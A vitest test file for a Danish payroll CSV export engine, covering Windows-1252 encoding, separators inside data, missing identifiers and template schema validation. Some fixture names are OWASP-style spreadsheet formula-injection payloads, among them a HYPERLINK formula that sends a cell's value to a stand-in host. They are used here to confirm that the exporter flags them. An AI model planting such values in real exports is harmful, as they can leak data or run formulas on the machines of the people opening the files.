// The template engine's checks before export (docs/rules.md §9): a character the encoding cannot
// hold, a separator inside data, a missing identifier — each named by citizen and field — and
// the template's own rules. Windows-1252 bytes from the encoder table, decoded back.
import { describe, expect, it } from 'vitest';
import {
  ExportTemplateSchema,
  buildTemplateFile,
  cp1252Byte,
  decodeCp1252,
  encodeText,
  presetByName,
  problemText,
  unencodable,
  type ExportTemplate,
} from '../../../shared/export';
import { computeMonth, toPayrollMonth } from '../../../shared/month';
import { october } from '../../fixtures/october';

const month = toPayrollMonth(computeMonth(october));
const preset = (name: string) => presetByName(name)!;
const ids = { 'c-anna': { cpr: '0101901234', employmentNumber: '01' } };
const withName = (template: ExportTemplate): ExportTemplate => ({
  ...template,
  columns: [...template.columns, { field: 'name', title: 'Navn' }],
});

describe('Windows-1252', () => {
  it('encodes æøå, €, – and ×; decodes back the same text', () => {
    const text = 'Ærø åbner € – × §';
    const bytes = encodeText(text, 'windows-1252');
    expect(bytes.length).toBe([...text].length);
    expect(decodeCp1252(bytes)).toBe(text);
    expect(cp1252Byte(0x20ac)).toBe(0x80);
    // Node's TextDecoder (small ICU) reads 0x80–0x9F as Latin-1; the rest of the table it agrees on.
    const latin = encodeText('Ærø åbner × §', 'windows-1252');
    expect(new TextDecoder('windows-1252').decode(latin)).toBe('Ærø åbner × §');
  });

  it('names what it cannot hold', () => {
    expect(unencodable('Ő Łukasz − 😀 ok', 'windows-1252')).toEqual(['Ő', 'Ł', '−', '😀']);
    expect(unencodable('Ő', 'utf-8-bom')).toEqual([]);
  });
});

describe('problems before export, per citizen and field', () => {
  it('a character Windows-1252 cannot hold', () => {
    const m = {
      ...month,
      rows: month.rows.map((r, i) => (i === 0 ? { ...r, name: 'Őrsi Łukasz' } : r)),
    };
    const file = buildTemplateFile(withName(preset('visma')), m, ids);
    expect(file.problems.map(problemText)).toContain(
      'Őrsi Łukasz (1001): Navn: tegnet "Ő" kan ikke skrives i Windows-1252',
    );
    expect(file.problems.map(problemText)).toContain(
      'Őrsi Łukasz (1001): Navn: tegnet "Ł" kan ikke skrives i Windows-1252',
    );
  });

  it('a separator or a forbidden character inside data', () => {
    const file = buildTemplateFile(withName(preset('visma')), month, ids);
    const texts = file.problems.map(problemText);
    // Bo's name holds ; and " (the OWASP fixture); Carl's holds ; " and nothing else forbidden.
    expect(texts).toContain(
      `=HYPERLINK("http://x.example/?a="&A1;"Klik") (1002): Navn: indeholder skilletegnet ";"`,
    );
    expect(texts).toContain(
      `=HYPERLINK("http://x.example/?a="&A1;"Klik") (1002): Navn: indeholder anførselstegn ("), som lønsystemet ikke læser`,
    );
    const commas = { ...month, rows: [{ ...month.rows[0]!, name: 'Ærø, Anna' }] };
    expect(
      buildTemplateFile(withName(preset('visma')), commas, ids).problems.map(problemText),
    ).toEqual(['Ærø, Anna (1001): Navn: indeholder tegnet ",", som lønsystemet ikke tager imod']);
  });

  it('a separator inside data is quoted, not a problem, where the template quotes (Excel)', () => {
    expect(buildTemplateFile(preset('excel'), month, ids).problems).toEqual([]);
  });

  it('a missing identifier: employment number, CPR, the CVR number', () => {
    const file = buildTemplateFile(preset('cpr-tf'), month, ids);
    expect(file.problems.map(problemText)).toEqual([
      `=HYPERLINK("http://x.example/?a="&A1;"Klik") (1002): CPR-nummer: mangler CPR-nummer`,
      `=HYPERLINK("http://x.example/?a="&A1;"Klik") (1002): Ansættelsesnummer: mangler ansættelsesnummer (udfyldes på borgeren)`,
      '-2+3 Carl; "Kalle" Åberg (1003): CPR-nummer: mangler CPR-nummer',
      '-2+3 Carl; "Kalle" Åberg (1003): Ansættelsesnummer: mangler ansættelsesnummer (udfyldes på borgeren)',
      '@SUM(1+1)\tDorte (1004): CPR-nummer: mangler CPR-nummer',
      '@SUM(1+1)\tDorte (1004): Ansættelsesnummer: mangler ansættelsesnummer (udfyldes på borgeren)',
    ]);
    expect(buildTemplateFile(preset('danloen'), month, ids).problems.map(problemText)).toEqual([
      'Skabelonen: CVR-nummer: mangler CVR-nummer i skabelonen',
    ]);
  });
});

describe('the template schema', () => {
  const issues = (t: unknown) => {
    const r = ExportTemplateSchema.safeParse(t);
    return r.success ? [] : r.error.issues.map((i) => `${i.path.join('.')}: ${i.message}`);
  };

  it('refuses a column of the other layout, a missing identifier column, a bad code length', () => {
    const t = preset('cpr-tf');
    expect(
      issues({
        ...t,
        columns: [
          ...t.columns.filter((c) => c.field !== 'employmentNumber'),
          { field: 'remarks', title: 'B' },
        ],
        lines: { ...t.lines, wage: { emit: true, code: '110' } },
      }),
    ).toEqual([
      'columns.7.field: hører til én linje pr. borger, ikke lønartslinjer',
      'columns: mangler kolonnen for Ansættelsesnummer',
      'lines.wage.code: skal være 4 tegn',
    ]);
  });

  it('refuses a file name without {måned} or with a character no file name may hold', () => {
    expect(issues({ ...preset('excel'), fileName: 'loen?.csv' })).toEqual([
      'fileName: skal indeholde {måned}',
      'fileName: indeholder et tegn, der ikke må stå i et filnavn',
    ]);
  });

  it('refuses the decimal mark equal to the separator', () => {
    expect(issues({ ...preset('excel'), separator: ',' })).toEqual([
      'decimalMark: må ikke være det samme tegn som skilletegnet',
    ]);
  });
});
